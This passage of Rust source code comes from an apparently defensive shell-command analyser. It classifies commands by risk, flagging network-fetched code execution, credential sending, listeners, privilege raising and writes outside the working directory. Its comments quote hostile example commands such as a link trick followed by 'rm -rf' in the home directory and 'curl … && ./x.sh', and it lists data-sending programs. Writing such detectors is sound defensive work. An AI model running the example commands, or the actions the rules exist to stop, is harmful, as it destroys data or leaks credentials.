                    format!("cannot be parsed as a shell word ({e})"),
                );
                let mut b = Build::default();
                b.push_dynamic(&w.value);
                return (vec![b.finish(1)], Output::default());
            }
        };
        let (builds, out) = self.pieces(&pieces, &w.value, ctx, depth, false);
        let alts = builds
            .into_iter()
            .map(|b| {
                if assignment {
                    vec![b.whole()]
                } else {
                    b.finish(64)
                }
            })
            .collect();
        (alts, out)
    }

    /// The alternatives a sequence of pieces builds (a variable with several possible values
    /// multiplies them).
    fn pieces(
        &mut self,
        pieces: &[WordPieceWithSource],
        raw: &str,
        ctx: &mut Ctx,
        depth: usize,
        quoted: bool,
    ) -> (Vec<Build>, Output) {
        let mut builds = vec![Build::default()];
        let mut out = Output::default();
        for p in pieces {
            let (fragments, o) = self.piece(p, raw, ctx, depth, quoted);
            out.merge(o);
            if let [only] = fragments.as_slice() {
                for b in &mut builds {
                    b.append(only);
                }
            } else {
                let mut next = Vec::new();
                for b in &builds {
                    for f in &fragments {
                        let mut nb = b.clone();
                        nb.append(f);
                        next.push(nb);
                    }
                }
                next.truncate(MAX_ALTERNATIVES);
                builds = next;
            }
        }
        (builds, out)
    }

    /// What one piece of a word adds: one fragment, or several when a variable may have
    /// several values.
    fn piece(
        &mut self,
        p: &WordPieceWithSource,
        raw: &str,
        ctx: &mut Ctx,
        depth: usize,
        quoted: bool,
    ) -> (Vec<Build>, Output) {
        let kind = if quoted {
            CharKind::Quoted
        } else {
            CharKind::Source
        };
        let source = raw.get(p.start_index..p.end_index).unwrap_or("$…");
        let mut b = Build::default();
        let mut out = Output::default();
        match &p.piece {
            WordPiece::Text(t) => b.push_str(t, kind),
            WordPiece::SingleQuotedText(t) => b.push_str(t, CharKind::Quoted),
            WordPiece::AnsiCQuotedText(t) => b.push_str(&ansi_c(t), CharKind::Quoted),
            WordPiece::EscapeSequence(t) => {
                let rest = t.strip_prefix('\\').unwrap_or(t);
                if rest != "\n" {
                    b.push_str(rest, CharKind::Quoted);
                }
            }
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => {
                return self.pieces(inner, raw, ctx, depth, true);
            }
            WordPiece::TildeExpansion(t) => match t {
                TildeExpr::Home => b.push_word(&home_word("~"), true),
                TildeExpr::UserHome(u) => b.push_word(&home_word(&format!("~{u}")), true),
                TildeExpr::WorkingDir => b.push_str(".", CharKind::Quoted),
                _ => b.push_dynamic(source),
            },
            WordPiece::ParameterExpansion(e) => {
                return (self.parameter(e, source, ctx, depth, quoted), out);
            }
            WordPiece::CommandSubstitution(script)
            | WordPiece::BackquotedCommandSubstitution(script) => {
                let mut inner = ctx.clone();
                let produced = self.script(script, &mut inner, depth + 1);
                b.push_dynamic(source);
                if let Some(scope) = &produced.paths {
                    b.start = Some(Start::Input(scope.clone()));
                }
                b.network.clone_from(&produced.network);
                out.network = produced.network;
            }
            WordPiece::ArithmeticExpression(e) => {
                self.arithmetic(&e.value, ctx, depth);
                b.push_dynamic(source);
            }
        }
        (vec![b], out)
    }

    fn parameter(
        &mut self,
        e: &ParameterExpr,
        source: &str,
        ctx: &mut Ctx,
        depth: usize,
        quoted: bool,
    ) -> Vec<Build> {
        let known = |p: &Parameter, ctx: &Ctx| -> Option<Vec<Word>> {
            let name = match p {
                Parameter::Named(n) => n.clone(),
                Parameter::Positional(n) => n.to_string(),
                _ => return None,
            };
            if let Some(v) = ctx.vars.get(&name) {
                return Some(v.clone());
            }
            match name.as_str() {
                "HOME" => Some(vec![home_word("~")]),
                "PWD" => Some(vec![Word::literal(".")]),
                _ => None,
            }
        };
        // Strings inside the expansion (defaults, array indexes) may hold command
        // substitutions; they are walked. Forms whose strings are not walked here (patterns,
        // substrings, transformations) are only a problem if they run a command.
        fn index(p: &Parameter) -> Option<&str> {
            match p {
                Parameter::NamedWithIndex { index, .. } => Some(index.as_str()),
                _ => None,
            }
        }
        let mut scan: Vec<&str> = Vec::new();
        let mut walked = true;
        let value = match e {
            ParameterExpr::Parameter {
                parameter,
                indirect: false,
            } => {
                scan.extend(index(parameter));
                known(parameter, ctx)
            }
            ParameterExpr::UseDefaultValues {
                parameter,
                indirect: false,
                default_value,
                ..
            }
            | ParameterExpr::AssignDefaultValues {
                parameter,
                indirect: false,
                default_value,
                ..
            } => {
                scan.extend(index(parameter));
                scan.extend(default_value.as_deref());
                known(parameter, ctx)
            }
            ParameterExpr::UseAlternativeValue {
                parameter,
                alternative_value,
                ..
            } => {
                scan.extend(index(parameter));
                scan.extend(alternative_value.as_deref());
                None
            }
            ParameterExpr::IndicateErrorIfNullOrUnset {
                parameter,
                error_message,
                ..
            } => {
                scan.extend(index(parameter));
                scan.extend(error_message.as_deref());
                None
            }
            _ => {
                walked = false;
                None
            }
        };
        if !walked {
            let text = format!("{e:?}");
            if text.contains("$(") || text.contains('`') {
                self.unsure_in(
                    "construct",
                    source,
                    "runs a command inside a kind of parameter expansion auto mode does not follow",
                );
            }
        }
        for s in scan {
            if s.contains("$(") || s.contains('`') {
                let quoted_word = format!("\"{}\"", s.replace('"', "\\\""));
                self.expand(&ast::Word::new(&quoted_word), ctx, depth, true);
            }
        }
        match value {
            // After `IFS=…` how an unquoted value splits is not known.
            Some(values) if quoted || !ctx.ifs_changed => values
                .iter()
                .map(|v| {
                    let mut b = Build::default();
                    b.push_word(v, quoted);
                    b
                })
                .collect(),
            _ => {
                let mut b = Build::default();
                b.push_dynamic(source);
                vec![b]
            }
        }
    }

    // -----------------------------------------------------------------------------------------
    // Judging one simple command

    /// Judges a simple command given as words: the user's rules first, then wrappers (looked
    /// through, layer by layer), then the built-in rules for the program that actually runs.
    /// `outer`: the words are the whole simple command as written, so findings quote it as
    /// written (with its quotes) rather than as expanded words.
    fn judge(
        &mut self,
        words: &[Word],
        part: &str,
        ctx: &mut Ctx,
        depth: usize,
        stdin: &Output,
        outer: bool,
    ) -> Output {
        let mut words: Vec<Word> = words.to_vec();
        // Unless the program is known to pass data through or print fixed text, what it prints
        // is computed at run time.
        let mut out = Output {
            network: stdin.network.clone(),
            opaque: Some(joined(&words)),
            ..Output::default()
        };
        if let Some(n) = words.iter().find_map(|w| w.network.clone()) {
            out.network.get_or_insert(n);
        }
        let mut layers = 0;
        loop {
            layers += 1;
            let Some(head) = words.first() else {
                return out;
            };
            if layers > 32 {
                self.unsure("too-complex", "wraps commands in too many layers", part);
                return out;
            }
            // A user rule decides this command and everything it runs.
            let normalized: Vec<&str> = words
                .iter()
                .enumerate()
                .map(|(i, w)| {
                    if i == 0 {
                        w.text.rsplit('/').next().unwrap_or(&w.text)
                    } else {
                        w.text.as_str()
                    }
                })
                .collect();
            if let Some(m) = self.policy.best_match(&normalized) {
                let rule = m.rule;
                let subject = joined(&words);
                let why = rule
                    .reason
                    .clone()
                    .unwrap_or_else(|| format!("your policy rule for `{}`", rule.prefix.join(" ")));
                let finding = Finding {
                    reason: match rule.decision {
                        Mode::Local => format!(
                            "`{}` may run on the host: {why} (rule {})",
                            shown(&subject),
                            rule.id()
                        ),
                        Mode::Sandbox => format!(
                            "`{}` goes to the sandbox: {why} (rule {})",
                            shown(&subject),
                            rule.id()
                        ),
                    },
                    rule: rule.id(),
                    part: part.trim().to_string(),
                };
                match rule.decision {
                    Mode::Local => self.local_by_policy.push(finding),
                    Mode::Sandbox => {
                        if !self
                            .sandbox
                            .iter()
                            .any(|f| f.rule == finding.rule && f.part == finding.part)
                        {
                            self.sandbox.push(finding);
                        }
                    }
                }
                return out;
            }
            let pattern = head.text.contains(['*', '?'])
                || (head.text.contains('[') && head.text.contains(']') && head.text != "[[");
            if pattern && !head.dynamic {
                self.unsure(
                    "unresolved-program",
                    format!(
                        "runs a program named by a pattern ({}), which only the file system resolves",
                        head.text
                    ),
                    part,
                );
                return out;
            }
            if head.dynamic {
                match &head.network {
                    Some(n) => self.find(
                        "network-exec:substitution",
                        &joined(&words),
                        &format!(
                            "runs a program named by output fetched from the network by `{}`",
                            shown(n)
                        ),
                        part,
                    ),
                    None => self.unsure(
                        "dynamic-program",
                        format!(
                            "runs a program whose name is only known at run time ({})",
                            head.text
                        ),
                        part,
                    ),
                }
                return out;
            }
            let prog = programs::canonical(&head.text).to_string();
            let args = &words[1..];
            let subject = if outer && layers == 1 {
                part.to_string()
            } else {
                joined(&words)
            };
            self.layer_checks(&prog, args, &subject, part);
            if let Some(run) = programs::unwrap(&prog, args) {
                if programs::raises_privilege(&prog) {
                    self.find(
                        format!("privilege:{prog}"),
                        &subject,
                        &format!("raises privileges with {prog}"),
                        part,
                    );
                }
                match run {
                    Run::Nothing => return out,
                    Run::Words(inner) => words = inner,
                    Run::Script(script) => {
                        let mut o = self.inline_script(
                            &script,
                            &[],
                            &prog,
                            &subject,
                            part,
                            ctx,
                            depth,
                            stdin,
                        );
                        o.network = o.network.or(out.network);
                        return o;
                    }
                    Run::Xargs {
                        words: inner,
                        replace,
                    } => {
                        let scope = stdin
                            .paths
                            .clone()
                            .unwrap_or_else(|| Scope::Unknown("items read from the input".into()));
                        words = xargs_words(inner, replace.as_deref(), scope);
                    }
                }
                continue;
            }
            let mut o = self.program(&prog, &words, &subject, part, ctx, depth, stdin);
            o.network = o.network.or(out.network);
            return o;
        }
    }

    /// A script given as a string (`bash -c`, `su -c`, `watch`, `trap`, `alias`).
    #[allow(clippy::too_many_arguments)]
    fn inline_script(
        &mut self,
        script: &Word,
        params: &[Word],
        via: &str,
        subject: &str,
        part: &str,
        ctx: &Ctx,
        depth: usize,
        stdin: &Output,
    ) -> Output {
        if script.dynamic {
            match &script.network {
                Some(n) => self.find(
                    "network-exec:substitution",
                    subject,
                    &format!("runs code fetched from the network by `{}`", shown(n)),
                    part,
                ),
                None => self.unsure(
                    "dynamic-script",
                    format!(
                        "runs a script given to {via} that is only known at run time ({})",
                        script.text
                    ),
                    part,
                ),
            }
            return Output::default();
        }
        let mut inner = ctx.clone();
        inner.stdin = stdin.clone();
        // `sh -c 'script' name arg1 arg2`: $0 is `name`, $1… the arguments.
        for n in 0..10 {
            inner.vars.remove(&n.to_string());
        }
        for (n, p) in params.iter().enumerate().take(10) {
            inner.vars.insert(n.to_string(), vec![p.clone()]);
        }
        self.script(&script.text, &mut inner, depth + 1)
    }

    /// Checks for every layer of wrappers, including the ones looked through: variables that
    /// load code (`env BASH_ENV=x bash`), runners that download what they run (`uv run --with`).
    fn layer_checks(&mut self, prog: &str, args: &[Word], subject: &str, part: &str) {
        if matches!(prog, "env" | "sudo" | "doas" | "run0") {
            for a in args.iter().filter(|a| programs::is_assignment(&a.text)) {
                let name = a.text.split('=').next().unwrap_or("");
                if let Some(what) = closed::loads_code(name) {
                    self.unsure_about(
                        "environment",
                        subject,
                        format!("sets {name}, which {what}"),
                        part,
                    );
                }
            }
        }
        if let Some(what) = closed::fetches_code(prog, args) {
            self.find(format!("network-code:{prog}"), subject, what, part);
        }
    }

    fn embedded_commands(&mut self, prog: &str, subject: &str, part: &str) {
        self.unsure_about(
            "embedded-command",
            subject,
            format!("runs other programs from {prog} code, which auto mode does not read"),
            part,
        );
    }

    /// `PAGER='…' git log`, `export GIT_SSH_COMMAND='…'`: values some program runs as commands.
    fn command_variable(
        &mut self,
        name: &str,
        value: Option<&Vec<Word>>,
        part: &str,
        ctx: &Ctx,
        depth: usize,
    ) {
        if let Some(what) = closed::loads_code(name) {
            let subject = format!(
                "{name}={}",
                value
                    .and_then(|v| v.first())
                    .map_or("…", |w| w.text.as_str())
            );
            self.unsure_about(
                "environment",
                &subject,
                format!("sets {name}, which {what}"),
                part,
            );
            return;
        }
        if !programs::holds_command(name) {
            return;
        }
        for v in value.into_iter().flatten() {
            let subject = format!("{name}={}", v.text);
            self.inline_script(v, &[], name, &subject, part, ctx, depth, &Output::default());
        }
    }

    /// Where a path points, counting links made earlier in the command (`ln -s ~ h && rm -rf
    /// h/*` deletes in the home directory).
    fn scope_of(&self, w: &Word, ctx: &Ctx) -> Scope {
        let scope = words::path_scope(w, &ctx.cwd, self.policy);
        if scope != Scope::Inside || self.links.is_empty() {
            return scope;
        }
        let rel = w.text.trim_start_matches("./");
        for (link, target) in &self.links {
            let link = link.trim_start_matches("./").trim_end_matches('/');
            if rel == link || rel.starts_with(&format!("{link}/")) {
                return Scope::Outside(format!("{} (through the link {link} to {target})", w.text));
            }
        }
        scope
    }

    /// A path relative to the working directory, when the current directory is known
    /// (`cd repo && ./install.sh` runs `repo/install.sh`).
    fn project_path(text: &str, ctx: &Ctx) -> Option<String> {
        if text.starts_with('/') || text.starts_with('~') {
            return None;
        }
        let rel = text.trim_start_matches("./");
        match ctx.cwd.as_slice() {
            [Cwd::Inside(base)] if base.is_empty() => Some(rel.to_string()),
            [Cwd::Inside(base)] => Some(format!("{}/{rel}", base.join("/"))),
            _ => None,
        }
    }

    /// A file the command itself wrote (`echo … > x.sh`) or fetched into a directory
    /// (`git clone URL repo`), being run.
    fn made_by_this_command(&self, path: &str, ctx: &Ctx) -> Option<(&'static str, String)> {
        let name = path.rsplit('/').next().unwrap_or(path);
        if !name.is_empty()
            && self
                .written
                .iter()
                .any(|w| w.rsplit('/').next() == Some(name))
        {
            return Some((
                "unsure:written-then-run",
                format!(
                    "runs {path}, which the same command wrote, so its content is only known at run time"
                ),
            ));
        }
        let full = Self::project_path(path, ctx)?;
        self.fetched_dirs.iter().find_map(|d| {
            let d = d.trim_start_matches("./").trim_end_matches('/');
            full.starts_with(&format!("{d}/")).then(|| {
                (
                    "network-exec:download",
                    format!("runs {path}, from {d}, downloaded earlier in the command"),
                )
            })
        })
    }

    fn was_downloaded(&self, path: &str) -> bool {
        let name = path.rsplit('/').next().unwrap_or(path);
        !name.is_empty()
            && self
                .downloads
                .iter()
                .any(|d| d.rsplit('/').next() == Some(name))
    }

    /// The built-in rules for one program with its arguments (wrappers already looked through).
    #[allow(clippy::too_many_arguments)]
    fn program(
        &mut self,
        prog: &str,
        words: &[Word],
        subject: &str,
        part: &str,
        ctx: &mut Ctx,
        depth: usize,
        stdin: &Output,
    ) -> Output {
        let args = &words[1..];
        let subject = subject.to_string();
        let mut out = Output {
            opaque: Some(subject.clone()),
            ..Output::default()
        };

        // Code: shells and other interpreters, eval, source.
        if let Some(lang) = programs::interpreter(prog) {
            match programs::code_source(prog, args) {
                Code::Inline(code) => {
                    if lang == Lang::Shell {
                        let pos = args
                            .iter()
                            .position(|a| std::ptr::eq(a, code))
                            .map_or(args.len(), |p| p + 1);
                        return self.inline_script(
                            code,
                            args.get(pos..).unwrap_or(&[]),
                            prog,
                            &subject,
                            part,
                            ctx,
                            depth,
                            stdin,
                        );
                    }
                    if let Some(n) = &code.network {
                        self.find(
                            "network-exec:substitution",
                            &subject,
                            &format!("runs code fetched from the network by `{}`", shown(n)),
                            part,
                        );
                    } else if code.dynamic {
                        self.unsure(
                            "dynamic-script",
                            format!("runs {prog} code only known at run time ({})", code.text),
                            part,
                        );
                    } else {
                        // Auto mode reads shell, not Python or JavaScript: code handed to another
                        // interpreter is not understood, whatever it looks like.
                        self.unsure(
                            "inline-code",
                            format!("runs {prog} code given on the command line, which auto mode does not read"),
                            part,
                        );
                    }
                }
                Code::File(file, rest) => {
                    // A file found inside the working directory (`find . -name '*.sh' | xargs
                    // -n1 bash`) is a local script like any other.
                    let found_inside = matches!(file.start, Start::Input(Scope::Inside));
                    if file.proc_subst || (file.dynamic && !found_inside) {
                        match &file.network {
                            Some(n) => self.find(
                                "network-exec:process-substitution",
                                &subject,
                                &format!("runs code fetched from the network by `{}`", shown(n)),
                                part,
                            ),
                            None => self.unsure(
                                "dynamic-script",
                                format!("runs a script produced at run time ({})", file.text),
                                part,
                            ),
                        }
                    } else if file.text.contains("://") {
                        self.find(
                            "network-exec:url",
                            &subject,
                            "runs code straight from the network",
                            part,
                        );
                    } else if self.was_downloaded(&file.text) {
                        self.find(
                            "network-exec:download",
                            &subject,
                            &format!("runs {}, downloaded earlier in the command", file.text),
                            part,
                        );
                    } else if let Some((rule, what)) = self.made_by_this_command(&file.text, ctx) {
                        self.find(rule, &subject, &what, part);
                    } else if prog == "python" && programs::setup_py_installs(&file.text, rest) {
                        self.find(
                            "install:setup.py",
                            &subject,
                            "installs Python packages",
                            part,
                        );
                    }
                    if lang == Lang::Shell {
                        return out;
                    }
                }
                Code::Stdin => {
                    if let Some(n) = &stdin.network {
                        self.find(
                            "network-exec:pipe",
                            &subject,
                            &format!("runs code piped in from the network (by `{}`)", shown(n)),
                            part,
                        );
                    } else if let (Some(text), Lang::Shell) = (&stdin.text, lang) {
                        let script = Word::literal(text);
                        return self.inline_script(
                            &script,
                            &[],
                            prog,
                            &subject,
                            part,
                            ctx,
                            depth,
                            &Output::default(),
                        );
                    } else if let (Some(_), Lang::Other) = (&stdin.text, lang) {
                        self.unsure(
                            "inline-code",
                            format!(
                                "runs {prog} code fed to its input, which auto mode does not read"
                            ),
                            part,
                        );
                    } else if let Some(producer) = &stdin.opaque {
                        self.unsure(
                            "stdin-script",
                            format!(
                                "runs code that `{}` produces at run time, which cannot be checked beforehand",
                                shown(producer)
                            ),
                            part,
                        );
                    }
                    if lang == Lang::Shell {
                        return out;
                    }
                }
                Code::Module(module) => {
                    // `python -m pip install x` runs like `pip install x`.
                    if !module.is_empty() {
                        return self.judge(&module, part, ctx, depth, stdin, false);
                    }
                }
                Code::Nothing => {}
            }
        }
        match prog {
            "eval" => {
                match args.iter().find_map(|a| a.network.clone()) {
                    Some(n) => self.find("network-exec:eval", &subject, &format!("runs code fetched from the network by `{}`", shown(&n)), part),
                    None => self.unsure("eval", "uses eval, which runs a string as shell code that is only put together at run time", part),
                }
                return out;
            }
            "source" | "." => {
                match args.first() {
                    Some(f) if f.proc_subst || f.dynamic => match &f.network {
                        Some(n) => self.find(
                            "network-exec:source",
                            &subject,
                            &format!(
                                "loads shell code fetched from the network by `{}`",
                                shown(n)
                            ),
                            part,
                        ),
                        None => self.unsure(
                            "source",
                            format!("loads a script only known at run time ({})", f.text),
                            part,
                        ),
                    },
                    Some(f) if self.was_downloaded(&f.text) => {
                        self.find(
                            "network-exec:download",
                            &subject,
                            &format!("loads {}, downloaded earlier in the command", f.text),
                            part,
                        );
                    }
                    Some(f) if self.made_by_this_command(&f.text, ctx).is_some() => {
                        if let Some((rule, what)) = self.made_by_this_command(&f.text, ctx) {
                            self.find(rule, &subject, &what, part);
                        }
                    }
                    Some(f) if f.text == "/dev/stdin" => {
                        if let Some(n) = &stdin.network {
                            self.find(
                                "network-exec:pipe",
                                &subject,
                                &format!(
                                    "loads shell code fetched from the network by `{}`",
                                    shown(n)
                                ),
                                part,
                            );
                        }
                    }
                    _ => {}
                }
                return out;
            }
            "awk" | "gawk" | "mawk" | "nawk" => {
                let program = programs::operands(
                    args,
                    programs::Spec {
                        short: "fvF",
                        long: &["file", "assign", "field-separator"],
                    },
                );
                let inline = !args.iter().any(|a| a.text == "-f");
                if let Some(code) = program.first().filter(|_| inline)
                    && programs::spawns_commands(prog, &code.text)
                {
                    self.embedded_commands(prog, &subject, part);
                }
            }
            "git" => {
                for cmd in programs::git_config_commands(args) {
                    self.inline_script(&cmd, &[], "git -c", &subject, part, ctx, depth, stdin);
                }
            }
            "trap" => {
                if let Some(code) = args.first().filter(|a| !a.text.starts_with('-')) {
                    self.inline_script(code, &[], "trap", &subject, part, ctx, depth, stdin);
                }
                return out;
            }
            "alias" => {
                for a in args {
                    if let Some((_, value)) = a.text.split_once('=') {
                        let body = programs::with_text(a, value);
                        self.inline_script(&body, &[], "alias", &subject, part, ctx, depth, stdin);
                    }
                }
                return out;
            }
            _ => {}
        }

        // A file fetched earlier being run (`curl -o x.sh … && ./x.sh`).
        if words[0].text.contains('/') && self.was_downloaded(&words[0].text) {
            self.find(
                "network-exec:download",
                &subject,
                &format!("runs {}, downloaded earlier in the command", words[0].text),
                part,
            );
        }
        if words[0].text.contains('/')
            && let Some((rule, what)) = self.made_by_this_command(&words[0].text, ctx)
        {
            self.find(rule, &subject, &what, part);
        }
        // Building or running anything inside a directory cloned by this command runs its code
        // (`git clone URL d && cd d && make`).
        if let [Cwd::Inside(base)] = ctx.cwd.as_slice()
            && !base.is_empty()
            && !closed::reads_locally(prog)
            && prog != "git"
            && let Some(dir) = self.fetched_dirs.iter().find(|d| {
                let d = d.trim_start_matches("./").trim_end_matches('/');
                let here = base.join("/");
                here == d || here.starts_with(&format!("{d}/"))
            })
        {
            let what =
                format!("runs in {dir}, downloaded earlier in the command, so it runs that code");
            self.find("network-exec:download", &subject, &what, part);
        }
        if let Some((rule, what)) = programs::installer(prog, args) {
            self.find(rule, &subject, what, part);
        }
        self.closed_checks(prog, args, &subject, part, ctx);
        if programs::raises_privilege(prog) {
            self.find(
                format!("privilege:{prog}"),
                &subject,
                &format!("raises privileges with {prog}"),
                part,
            );
        }
        if let Some(what) = programs::system_change(prog, args) {
            self.find(format!("system:{prog}"), &subject, what, part);
        }
        if prog == "git" && programs::git_config_outside(args) {
            self.find(
                "write-outside:git-config",
                &subject,
                "changes git configuration outside the working directory",
                part,
            );
        }
        if let Some((targets, verb)) = programs::write_targets(prog, args) {
            for t in targets {
                self.check_path(prog, &t, verb, &subject, part, ctx);
            }
        }
        if prog == "find" {
            self.find_actions(args, &subject, part, ctx, depth, stdin);
        }
        self.record_state(prog, args, ctx);

        // What it writes to its output, for the commands it feeds.
        if programs::fetches(prog) {
            out.network = Some(subject.clone());
            self.downloads
                .extend(programs::downloaded_files(prog, args));
        }
        match prog {
            "echo" | "printf" => {
                let text_args: Vec<&Word> = args
                    .iter()
                    .skip_while(|a| prog == "echo" && matches!(a.text.as_str(), "-n" | "-E"))
                    .collect();
                // `echo -e` and printf formats rewrite the text: then it is not known as written.
                let rewrites = |a: &&Word| {
                    a.dynamic
                        || a.text.contains('\\')
                        || a.text.starts_with('-')
                        || (prog == "printf" && a.text.contains('%'))
                };
                if !text_args.iter().any(rewrites) && (prog == "echo" || text_args.len() == 1) {
                    let text = text_args
                        .iter()
                        .map(|a| a.text.as_str())
                        .collect::<Vec<_>>();
                    out.text = Some(format!("{}\n", text.join(" ")));
                    out.opaque = None;
                }
                out.paths = Some(text_args.iter().fold(Scope::Inside, |acc, a| {
                    acc.worst(words::path_scope(a, &ctx.cwd, self.policy))
                }));
            }
            "cat" | "tee" if prog == "tee" || operands_or_stdin(args) => {
                // Passes its input through (and `tee` saves it: a download, if it came from
                // the network).
                if prog == "tee" && stdin.network.is_some() {
                    let saved = args.iter().filter(|a| !a.text.starts_with('-'));
                    self.downloads.extend(saved.map(|a| a.text.clone()));
                }
                return stdin.clone();
            }
            "cat" => {
                // Local files: their content is like a script file's, not a computed one.
                out.opaque = args.iter().any(|a| a.dynamic).then(|| subject.clone());
                if let Some(f) = args.iter().find(|a| self.was_downloaded(&a.text)) {
                    out.network = Some(format!("{}, downloaded earlier in the command", f.text));
                }
            }
            _ => {}
        }
        if let Some(roots) = programs::lists_paths_from(prog, args) {
            out.paths = Some(roots.iter().fold(Scope::Inside, |acc, r| {
                acc.worst(words::path_scope(r, &ctx.cwd, self.policy))
            }));
        } else if programs::passes_lines_through(prog) {
            out.paths.clone_from(&stdin.paths);
            out.text.clone_from(&stdin.text);
            out.opaque.clone_from(&stdin.opaque);
        }
        out
    }

    /// The fail-closed rules (see `closed.rs`): commands hidden in arguments and settings,
    /// remote infrastructure, listeners, credentials, writes through output options, links and
    /// clones that later parts may use.
    fn closed_checks(&mut self, prog: &str, args: &[Word], subject: &str, part: &str, ctx: &Ctx) {
        if prog == "git"
            && let Some(what) = closed::git_runs_hidden(args)
        {
            self.unsure_about("runs-hidden:git", subject, what, part);
        }
        if matches!(prog, "sed" | "gsed") {
            for script in closed::sed_scripts(args) {
                if script.dynamic {
                    self.unsure_about(
                        "runs-hidden:sed",
                        subject,
                        format!("runs a sed script only known at run time ({})", script.text),
                        part,
                    );
                    continue;
                }
                let fx = closed::sed_effects(&script.text);
                if fx.runs {
                    self.unsure_about(
                        "runs-hidden:sed",
                        subject,
                        "runs shell commands from its script (the e command or the e flag)",
                        part,
                    );
                }
                for file in fx.writes {
                    let w = programs::with_text(&script, &file);
                    self.check_path(prog, &w, "writes", subject, part, ctx);
                }
            }
        }
        if let Some(what) = closed::runs_from_options(prog, args) {
            self.unsure_about(&format!("runs-hidden:{prog}"), subject, what, part);
        }
        if let Some(what) = closed::remote_change(prog, args) {
            self.find(format!("remote:{prog}"), subject, &what, part);
        }
        if let Some((sources, host)) = closed::container_host_access(prog, args) {
            if let Some(what) = host {
                self.find(format!("host-access:{prog}"), subject, &what, part);
            }
            for src in sources {
                if self.scope_of(&src, ctx) != Scope::Inside {
                    self.find(
                        format!("host-access:{prog}"),
                        subject,
                        &format!(
                            "mounts {} from the host into a container, outside the working directory",
                            src.text
                        ),
                        part,
                    );
                }
            }
        }
        if let Some(what) = closed::listener(prog, args) {
            self.find(format!("listener:{prog}"), subject, what, part);
        }
        for t in closed::flag_write_targets(prog, args) {
            self.check_path(
                prog,
                &t,
                "writes (through an output option)",
                subject,
                part,
                ctx,
            );
        }
        for t in closed::venv_targets(prog, args) {
            self.check_path(
                prog,
                &t,
                "makes a virtual environment in",
                subject,
                part,
                ctx,
            );
        }
        for t in closed::works_in(prog, args) {
            self.check_path(prog, &t, "builds in", subject, part, ctx);
        }
        if let Some(what) = closed::user_wide_flag(prog, args) {
            self.find(format!("write-outside:{prog}"), subject, &what, part);
        }

        // Credentials: sent or copied by this part, or read here for a later part to send.
        // A key or config given to the tool that uses it (`ssh -i KEY`, `kubectl --kubeconfig
        // FILE`) is used, not sent.
        let used_by = |k: usize, a: &Word| {
            closed::credential_option(prog, &a.text)
                || k > 0 && closed::credential_option(prog, &args[k - 1].text)
        };
        let credential = args
            .iter()
            .enumerate()
            .find(|(k, a)| closed::credential_in(&a.text) && !used_by(*k, a));
        if let Some((_, c)) = credential {
            if closed::sends_or_copies(prog) {
                self.find(
                    format!("credentials:{prog}"),
                    subject,
                    &format!("sends or copies the credential file {}", c.text),
                    part,
                );
            } else if closed::reads_locally(prog) {
                self.credential_read.get_or_insert_with(|| c.text.clone());
            } else {
                self.unsure_about(
                    &format!("credentials:{prog}"),
                    subject,
                    format!(
                        "gives the credential file {} to a program that may send it anywhere",
                        c.text
                    ),
                    part,
                );
            }
        }
        if closed::sends_or_copies(prog) && programs::fetches(prog)
            || matches!(
                prog,
                "ssh"
                    | "scp"
                    | "sftp"
                    | "rsync"
                    | "ftp"
                    | "telnet"
                    | "sendmail"
                    | "mail"
                    | "mailx"
                    | "gh"
                    | "aws"
                    | "gsutil"
                    | "rclone"
            )
        {
            self.sender
                .get_or_insert_with(|| (prog.to_string(), subject.to_string(), part.to_string()));
        }
    }

    /// State for later parts: links out of the working directory, cloned directories, files
    /// saved by tee.
    fn record_state(&mut self, prog: &str, args: &[Word], ctx: &Ctx) {
        if matches!(prog, "ln" | "link") {
            let ops = programs::operands(
                args,
                programs::Spec {
                    short: "tS",
                    long: &["target-directory", "suffix"],
                },
            );
            if let [targets @ .., link] = ops.as_slice()
                && !targets.is_empty()
            {
                for t in targets {
                    if self.scope_of(t, ctx) != Scope::Inside {
                        self.links.push((link.text.clone(), t.text.clone()));
                    }
                }
            }
        }
        if prog == "git" {
            let ops = programs::operands(
                args,
                programs::Spec {
                    short: "Cc",
                    long: &["git-dir", "work-tree"],
                },
            );
            if ops.first().is_some_and(|w| w.text == "clone") {
                let pos = args
                    .iter()
                    .position(|w| w.text == "clone")
                    .map_or(args.len(), |p| p + 1);
                let clone = programs::operands(&args[pos..], programs::GIT_CLONE);
                let dir = match clone.as_slice() {
                    [_, dir, ..] => Some(dir.text.clone()),
                    [url] => url
                        .text
                        .trim_end_matches('/')
                        .rsplit(['/', ':'])
                        .next()
                        .map(|n| n.trim_end_matches(".git").to_string()),
                    [] => None,
                };
                self.fetched_dirs.extend(dir.filter(|d| !d.is_empty()));
            }
        }
        if prog == "tee" {
            self.written.extend(
                args.iter()
                    .filter(|a| !a.text.starts_with('-'))
                    .map(|a| a.text.clone()),
            );
        }
    }

    fn check_path(
        &mut self,
        prog: &str,
        target: &Word,
        verb: &str,
        subject: &str,
        part: &str,
        ctx: &Ctx,
    ) {
        match self.scope_of(target, ctx) {
            Scope::Inside => {}
            Scope::Outside(where_) => self.find(
                format!("write-outside:{prog}"),
                subject,
                &format!("{verb} {where_}, outside the working directory"),
                part,
            ),
            Scope::Unknown(why) => self.find(
                format!("write-outside:{prog}"),
                subject,
                &format!("{verb} a path that may be outside the working directory ({why})"),
                part,
            ),
        }
    }

    /// `find … -delete`, `-exec CMD {} ;`, `-fprint FILE`.
    fn find_actions(
        &mut self,
        args: &[Word],
        subject: &str,
        part: &str,
        ctx: &mut Ctx,
        depth: usize,
        stdin: &Output,
    ) {
        let roots = programs::lists_paths_from("find", args).unwrap_or_default();
        let scope = roots.iter().fold(Scope::Inside, |acc, r| {
            acc.worst(words::path_scope(r, &ctx.cwd, self.policy))
        });
        let mut i = roots.len();
        while i < args.len() {
            let t = args[i].text.as_str();
            match t {
                "-delete" => {
                    let found = Word::input(scope.clone(), "{}");
                    self.check_path("find", &found, "deletes files in", subject, part, ctx);
                }
                "-exec" | "-execdir" | "-ok" | "-okdir" => {
                    let end = (i + 1..args.len())
                        .find(|&j| matches!(args[j].text.as_str(), ";" | "+"))
                        .unwrap_or(args.len());
                    let inner: Vec<Word> = args[i + 1..end]
                        .iter()
                        .map(|w| {
                            if w.text.starts_with("{}") {
                                Word::input(scope.clone(), &w.text)
                            } else {
                                w.clone()
                            }
                        })
                        .collect();
                    self.judge(&inner, part, ctx, depth, stdin, false);
                    i = end;
                }
                "-fprint" | "-fprint0" | "-fprintf" | "-fls" => {
                    if let Some(f) = args.get(i + 1) {
                        self.check_path("find", f, "writes", subject, part, ctx);
                    }
